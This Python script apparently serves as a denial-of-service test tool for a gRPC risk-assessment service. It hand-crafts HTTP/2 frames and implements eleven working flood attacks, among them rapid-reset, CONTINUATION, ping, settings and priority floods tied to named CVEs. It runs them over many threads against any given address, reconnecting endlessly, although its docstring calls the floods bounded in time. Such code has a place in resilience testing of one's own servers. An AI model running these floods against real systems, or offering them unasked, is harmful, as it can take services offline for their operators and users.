"""HTTP/2 as an attacker speaks it: hand-made frames (RFC 9113), bounded in number and time."""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
ACK: Final = 1
WINDOW: Final = struct.pack(">I", (1 << 31) - 1 - 65_535)
"""Opens the window of a connection as far as it goes."""
PATH: Final = "/riskd.v1.RiskService/Assess"
BATCH: Final = 64
"""Frames in a write."""
SECONDS: Final = 4.0
"""Longest duration of a flood."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame: length, type, flags, stream, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A literal header field without indexing or compression (RFC 7541, 6.2.2); both parts below 127 bytes."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def call(path: str) -> bytes:
    """The headers of a call whose path is below 127 bytes."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"laws"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )


CALL: Final = call(PATH)


class Peer:
    """A connection that has sent the preface and then reads nothing unless told to.

    It acknowledges the server's settings and opens its window: otherwise gRPC takes only a hundred calls from it.
    """

    def __init__(self, address: str, settings: bytes = b"", tls: ssl.SSLContext | None = None) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname=host)
        self.sent = 0
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.socket.recv(1 << 16)  # the server's settings: acknowledged earlier, they are an error
        self.socket.sendall(frame(SETTINGS, ACK, 0) + frame(WINDOW_UPDATE, 0, 0, WINDOW))
        self.socket.settimeout(0.5)

    def flood(self, frames: Iterator[bytes], most: int, *, reads: bool) -> None:
        """Send up to `most` frames, until the server closes the connection or stops reading."""
        deadline = time.monotonic() + SECONDS
        with suppress(OSError):
            while self.sent < most and time.monotonic() < deadline:
                self.socket.sendall(b"".join(next(frames) for _ in range(BATCH)))
                self.sent += BATCH
                if reads:
                    self._drain()

    def _drain(self) -> None:
        self.socket.setblocking(False)
        with suppress(BlockingIOError, ssl.SSLWantReadError):
            while self.socket.recv(1 << 16):
                pass
        self.socket.settimeout(0.5)

    def hears(self, words: bytes) -> bool:
        """Whether the server sends these bytes within some seconds."""
        self.socket.settimeout(10)
        got = b""
        while words not in got:
            more = self.socket.recv(65_536)
            if not more:
                return False
            got += more
        return True

    def close(self) -> None:
        """Close the connection."""
        self.socket.close()


def calls(message: bytes, flags: int = END_STREAM) -> Iterator[bytes]:
    """A complete call on a new stream."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, flags, stream, _message(message))


def not_unicode() -> Iterator[bytes]:
    """Calls whose headers are not UTF-8: one header in the table of the connection, and 200 references to it."""
    header = b"\x40\1x\1\xff"  # RFC 7541, 6.2.1
    for stream in count(1, 2):
        fields = CALL + header + b"\xbe" * 200
        yield frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, _message(b""))


def rapid_resets() -> Iterator[bytes]:
    """Calls that the client resets at once (CVE-2023-44487)."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def provoked_resets() -> Iterator[bytes]:
    """Calls with an invalid frame, which makes the server reset them (CVE-2025-8671)."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def pings() -> Iterator[bytes]:
    """Pings, each of which needs an answer (CVE-2019-9512)."""
    for number in count():
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def settings() -> Iterator[bytes]:
    """Settings, each of which needs an acknowledgement (CVE-2019-9515)."""
    for number in count():
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))


def priorities() -> Iterator[bytes]:
    """Priority changes of streams that do not exist (CVE-2019-9513)."""
    for stream in count(1, 2):
        yield frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, stream % 256))


def continuations() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, CALL)
    for number in count():
        yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"y" * 100) * 100)


def empty_frames() -> Iterator[bytes]:
    """Data frames without data (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    while True:
        yield frame(DATA, 0, 1)


def a_gibibyte() -> Iterator[bytes]:
    """A message whose prefix announces a gibibyte."""
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    yield frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30))
    while True:
        yield frame(DATA, 0, 1, bytes(16_384))


def many_streams() -> Iterator[bytes]:
    """Calls that are started and never continued."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL)


def empty_calls() -> Iterator[bytes]:
    """Calls that end without their message."""
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, CALL)


FLOODS: Final[dict[str, tuple[Callable[[], Iterator[bytes]], int]]] = {
    "rapid resets": (rapid_resets, 40_000),
    "provoked resets": (provoked_resets, 40_000),
    "pings": (pings, 100_000),
    "settings": (settings, 100_000),
    "priorities": (priorities, 100_000),
    "continuations": (continuations, 20_000),
    "empty frames": (empty_frames, 200_000),
    "a message of a gibibyte": (a_gibibyte, 65_600),
    "many streams": (many_streams, 40_000),
    "empty calls": (empty_calls, 40_000),
    "headers that are not unicode": (not_unicode, 10_000),
}
"""The frames of each flood, and their largest number."""


def _message(content: bytes) -> bytes:
    """A message with the length prefix of gRPC."""
    return b"\0" + struct.pack(">I", len(content)) + content


def keep_flooding(name: str, address: str, tls: ssl.SSLContext | None) -> None:
    """Flood for ever, over another connection whenever the server closes one."""
    make, most = FLOODS[name]
    while True:
        with suppress(OSError):
            peer = Peer(address, tls=tls)
            peer.flood(make(), most, reads=True)
            peer.close()


def main(name: str, address: str, connections: str, authority: str = "") -> None:
    """Flood a server over several connections until this process is killed. Prints a line when it begins."""
    tls = ssl.create_default_context(cafile=authority) if authority else None
    if tls is not None:
        tls.set_alpn_protocols(["h2"])
    for _ in range(int(connections)):
        threading.Thread(target=keep_flooding, args=(name, address, tls)).start()
    sys.stdout.write(f"{name}\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
